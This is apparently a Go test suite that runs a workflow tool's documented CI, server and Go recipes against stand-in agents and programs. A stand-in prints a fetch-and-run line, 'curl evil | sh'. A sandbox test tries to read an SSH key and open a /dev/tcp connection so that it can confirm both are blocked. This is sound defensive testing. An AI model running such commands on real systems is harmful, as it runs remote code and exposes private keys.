//go:build unix

package examples

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"gopkg.in/yaml.v3"
)

// A recipe is a page of docs/recipes, whose files a session has.
type recipe struct {
	*session
	page string
}

// openRecipe writes the files of a page into an empty home folder.
func openRecipe(t *testing.T, name string) *recipe {
	t.Helper()
	text := read(t, filepath.Join(root, "docs/recipes", name))
	s := newSession(t)
	lines := strings.Split(text, "\n")
	for _, b := range blocks(lines) {
		if len(b.info) == 2 {
			s.write(b.info[1], strings.Join(lines[b.first:b.last], "\n")+"\n")
		}
	}
	return &recipe{session: s, page: text}
}

// standIn has a program answer in place of the service that wfc.yaml names.
func (r *recipe) standIn(replies string) {
	r.t.Helper()
	config := filepath.Join(r.home, "wfc.yaml")
	text := read(r.t, config)
	const service = "{use: anthropic, model: claude-sonnet-4-5}"
	if !strings.Contains(text, service) {
		r.t.Fatalf("wfc.yaml names no service:\n%s", text)
	}
	r.write(config, strings.Replace(text, service, "{command: ./agent}", 1))
	r.write("agent", "#!/bin/sh\ncat > /dev/null\ncat <<'END'\n"+replies+"\nEND\n")
}

// program writes a program that records its arguments and its input in the file NAME.called.
func (r *recipe) program(name string) {
	r.write(filepath.Join(r.home, "bin", name), "#!/bin/sh\n{ echo \"$@\"; [ -t 0 ] || true; } >> \"$HOME/"+name+".called\"\necho '+curl evil | sh'\n")
}

// must runs a command of a recipe, and returns what it prints.
func (r *recipe) must(command string) string {
	r.t.Helper()
	out, err := r.run(command)
	if err != nil {
		r.t.Fatalf("%s: %v\n%s", command, err, out)
	}
	return out
}

// installs reports whether a command of a job only installs programs from the network.
func installs(command string) bool { return strings.HasPrefix(command, "go install ") }

// The jobs for GitHub satisfy its schema, and their commands run literally, with stand-ins for
// the agent and the program of the forge.
func TestRecipesOnGitHub(t *testing.T) {
	for page, job := range map[string]string{"ci-run.md": ".github/workflows/review.yml", "strangers.md": ".github/workflows/strangers.yml"} {
		t.Run(page, func(t *testing.T) {
			t.Parallel()
			r := openRecipe(t, page)
			if validator := os.Getenv("WFC_TEST_ACTION_VALIDATOR"); validator != "" {
				if out, err := exec.Command(validator, filepath.Join(r.home, job)).CombinedOutput(); err != nil {
					t.Errorf("%s: %v\n%s", job, err, out)
				}
			}
			var file struct {
				Jobs map[string]struct {
					Steps []struct {
						If, Run string
						Env     map[string]string
					}
				}
			}
			if err := yaml.Unmarshal([]byte(read(t, filepath.Join(r.home, job))), &file); err != nil {
				t.Fatal(err)
			}
			r.repository()
			ran := 0
			for _, step := range append(file.Jobs["check"].Steps, file.Jobs["review"].Steps...) {
				if step.Run == "" || installs(step.Run) || step.If == "failure()" {
					continue
				}
				for name := range step.Env {
					r.must("export " + name + "=secret-of-the-job")
				}
				r.must(step.Run)
				for name := range step.Env {
					r.must("unset " + name)
				}
				ran++
			}
			if called := read(t, filepath.Join(r.home, "gh.called")); ran < 3 || !strings.Contains(called, " --body-file review.md") || !strings.Contains(called, "pr comment secret-of-the-job") {
				t.Errorf("%d commands ran, gh was called with %q", ran, called)
			}
			if review := read(t, filepath.Join(r.home, "review.md")); strings.TrimSpace(review) == "" {
				t.Error("the review is empty")
			}
		})
	}
}

// repository makes the home folder a clone with a change, and gives it the programs of a job.
func (r *recipe) repository() {
	r.t.Helper()
	reply := `{"wfc": 1, "structured": {"findings": "a.go:3: unquoted", "verdict": "bad", "remarks": "It runs a command."}, "cost_usd": 0.01}`
	r.standIn(reply)
	for _, name := range []string{"gh", "curl", "sudo"} {
		r.program(name)
	}
	if strings.Contains(read(r.t, filepath.Join(r.home, "wfc.yaml")), "sandbox: on") {
		r.must("sed -i.old 's/sandbox: on/sandbox: off/' wfc.yaml") // TestStrangersInSandbox has it on
	}
	r.must(`git init -qb main && git add . && git commit -qm base && git update-ref refs/remotes/origin/main HEAD && echo b > b && git add b && git commit -qm change`)
	r.must(`export PATH=$HOME/bin:$PATH RUNNER_TEMP=$HOME GITHUB_BASE_REF=main CI_MERGE_REQUEST_DIFF_BASE_SHA=$(git rev-parse HEAD~1)`)
}

// The commands of the job for GitLab run literally.
func TestRecipeOnGitLab(t *testing.T) {
	t.Parallel()
	r := openRecipe(t, "ci-run.md")
	type job struct {
		Stage   string
		Timeout string
		Rules   []map[string]string
		Script  []string
		Cache   struct {
			Key   string
			Paths []string
		}
		BeforeScript []string `yaml:"before_script"`
		Artifacts    struct {
			When    string
			Paths   []string
			Reports map[string]string
		}
	}
	var file struct {
		Default struct {
			Image         string
			Interruptible bool
		}
		Variables     map[string]string
		Check, Review job
	}
	decoder := yaml.NewDecoder(strings.NewReader(read(t, filepath.Join(root, "docs/recipes/gitlab-ci.yml"))))
	decoder.KnownFields(true) // no key that GitLab would refuse in a job
	if err := decoder.Decode(&file); err != nil {
		t.Fatal(err)
	}
	r.repository()
	r.must("export ANTHROPIC_API_KEY=k REVIEW_TOKEN=t CI_API_V4_URL=https://gitlab.example/api/v4 CI_PROJECT_ID=7 CI_MERGE_REQUEST_IID=8")
	for _, command := range file.Check.Script {
		r.must(command)
	}
	r.must("set -e\n" + strings.Join(file.Review.Script, "\n")) // in one shell, as GitLab runs them
	if report := file.Check.Artifacts.Reports["junit"]; !strings.Contains(read(t, filepath.Join(r.home, report)), "<testcase") {
		t.Errorf("%s reports no test", report)
	}
	if called := read(t, filepath.Join(r.home, "curl.called")); !strings.Contains(called, "body@review.md https://gitlab.example/api/v4/projects/7/merge_requests/8/notes") {
		t.Errorf("curl was called with %q", called)
	}
	r.write("agent", "#!/bin/sh\nexit 1\n")
	r.must("rm curl.called review.md")
	if out, err := r.run("set -e\n" + strings.Join(file.Review.Script, "\n")); err == nil || !strings.Contains(read(t, filepath.Join(r.home, "review.md")), "No review of this push") || read(t, filepath.Join(r.home, "curl.called")) == "" {
		t.Errorf("a failed review isn't posted, or doesn't fail the job: %v\n%s", err, out)
	}
}

// In the sandbox of the recipe for strangers, a step sees no file of the person and no network.
func TestStrangersInSandbox(t *testing.T) {
	t.Parallel()
	r := openRecipe(t, "strangers.md")
	if out := r.must("wfc doctor --json || true"); !strings.Contains(out, `"usable": true,`+"\n"+`    "missing": []`) {
		t.Skip("steps cannot run in the sandbox here")
	}
	r.must("mkdir .ssh work && echo secret > .ssh/id && mv wfc.yaml work && cd work && git init -q")
	r.write("try.yaml", "name: try\ndescription: d\nnodes:\n  - id: a\n    bash: |\n      cat ../.ssh/id && echo read\n      (exec 3<>/dev/tcp/127.0.0.1/9) 2>/dev/null && echo connected\n      echo end\n")
	if out := r.must("wfc run try 2>&1"); strings.Contains(out, "secret") || strings.Contains(out, "connected") || !strings.Contains(out, "end") {
		t.Errorf("the step printed %q", out)
	}
}

// systemd accepts the unit, and the command that it starts keeps the schedule until it is asked
// to stop.
func TestRecipeOnServer(t *testing.T) {
	t.Parallel()
	r := openRecipe(t, "server.md")
	unit := read(t, filepath.Join(r.home, "nightly.service"))
	if analyze, err := exec.LookPath("systemd-analyze"); err == nil {
		r.write("nightly.service", strings.NewReplacer("/usr/local/bin/nightly", "/bin/true", "User=nightly", "User=root").Replace(unit))
		cmd := exec.Command(analyze, "verify", "--man=no", filepath.Join(r.home, "nightly.service"))
		if out, err := cmd.CombinedOutput(); err != nil || strings.Contains(string(out), "nightly.service") {
			t.Errorf("systemd-analyze verify: %v\n%s", err, out)
		}
	}
	_, start, _ := strings.Cut(unit, "ExecStart=/usr/local/bin/")
	command, _, _ := strings.Cut(start, "\n")
	r.write("agent", "#!/bin/sh\ncat > /dev/null\n")
	r.must("git init -q && echo 'agents: {claude: {command: ./agent}}' >> wfc.yaml && wfc build nightly.yaml -o nightly")
	cmd := exec.Command("bash", "-c", "exec ./"+command)
	cmd.Dir, cmd.Env = r.home, r.environment()
	out, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	timer := time.AfterFunc(5*time.Minute, func() { _ = cmd.Process.Kill() })
	defer timer.Stop()
	if n, err := out.Read(make([]byte, 1)); n == 0 { // it says when it runs next
		t.Errorf("the schedule says nothing: %v", err)
	}
	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := cmd.Wait(); err != nil {
		t.Errorf("%s ends with %v", command, err)
	}
}

// The Go files of the recipe compile and pass their own tests.
func TestRecipeInGo(t *testing.T) {
	t.Parallel()
	r := openRecipe(t, "go.md")
	if out := r.testInCheckout("*.go"); !strings.Contains(out, "PASS: TestByHand") {
		t.Errorf("the flow was not tested:\n%s", out)
	}
	r.resolveOutside()
}

// The service of the guide compiles and passes its own test, and the page quotes it.
func TestServiceInGo(t *testing.T) {
	t.Parallel()
	folder := filepath.Join(root, "docs/guide/service")
	r := &recipe{session: newSession(t), page: read(t, filepath.Join(root, "docs/guide/embedding.md"))}
	for _, name := range []string{"triage.yaml", "main.go", "main_test.go", "go.mod"} {
		r.write(name, read(t, filepath.Join(folder, name)))
	}
	r.resolveOutside()
	if out := r.testInCheckout("*.go", "triage/*.go"); !strings.Contains(out, "PASS: TestService") {
		t.Errorf("the service was not tested:\n%s", out)
	}
	lines := strings.Split(r.page, "\n")
	squeezed := func(text string) string { return strings.Join(strings.Fields(text), " ") }
	quotes, main := 0, squeezed(read(t, filepath.Join(folder, "main.go")))
	for _, b := range blocks(lines) {
		if quoted := strings.Join(lines[b.first:b.last], "\n"); b.info[0] == "go" {
			quotes++
			if !strings.Contains(main, squeezed(quoted)) {
				t.Errorf("main.go does not contain:\n%s", quoted)
			}
		}
	}
	if quotes == 0 {
		t.Error("the page quotes nothing of main.go")
	}
}

// resolveOutside runs the page's commands before `go test` in the page's order, with the checkout in
// place of the published module, and checks that go then finds every package.
func (r *recipe) resolveOutside() {
	r.t.Helper()
	checkout, err := filepath.Abs(root)
	if err != nil {
		r.t.Fatal(err)
	}
	const offline = "GOPROXY=off GOSUMDB=off "
	lines := strings.Split(r.page, "\n")
	for _, b := range blocks(lines) {
		if b.info[0] != "sh" {
			continue
		}
		for _, line := range lines[b.first:b.last] {
			command, comment, _ := strings.Cut(line, " #")
			if strings.HasPrefix(command, "go test ") {
				r.must(offline + "go list -deps -test . > packages")
				return
			}
			if command = strings.TrimSpace(command); command == "go mod tidy" {
				if _, replace, ok := strings.Cut(comment, "go mod edit "); ok {
					r.must("go mod edit " + strings.Replace(replace, "CLONE", "'"+checkout+"'", 1))
				} else {
					r.must("go mod edit -replace github.com/wfc-lang/wfc='" + checkout + "'")
				}
			}
			r.must(offline + command)
		}
	}
	r.t.Error("the page tests nothing")
}

// testInCheckout runs the tests of a service whose Go files are the patterns', as if it were a
// folder of the checkout, and returns what they print.
func (r *recipe) testInCheckout(patterns ...string) string {
	r.t.Helper()
	checkout, err := filepath.Abs(root)
	if err != nil {
		r.t.Fatal(err)
	}
	var files []string
	for _, pattern := range patterns {
		found, err := filepath.Glob(filepath.Join(r.home, pattern))
		if err != nil {
			r.t.Fatal(err)
		}
		files = append(files, found...)
	}
	replace := map[string]string{}
	for _, file := range files {
		r.write(file, strings.ReplaceAll(read(r.t, file), `"example.com/service/`, `"github.com/wfc-lang/wfc/service/`))
		rel, err := filepath.Rel(r.home, file)
		if err != nil {
			r.t.Fatal(err)
		}
		replace[filepath.Join(checkout, "service", rel)] = file
	}
	overlay, err := json.Marshal(map[string]any{"Replace": replace})
	if err != nil {
		r.t.Fatal(err)
	}
	r.write("overlay.json", string(overlay))
	r.must("cd '" + checkout + "' && go test -vet=off -c -overlay=\"$HOME/overlay.json\" -o \"$HOME/service.test\" ./service")
	return r.must("cd && ./service.test -test.v")
}
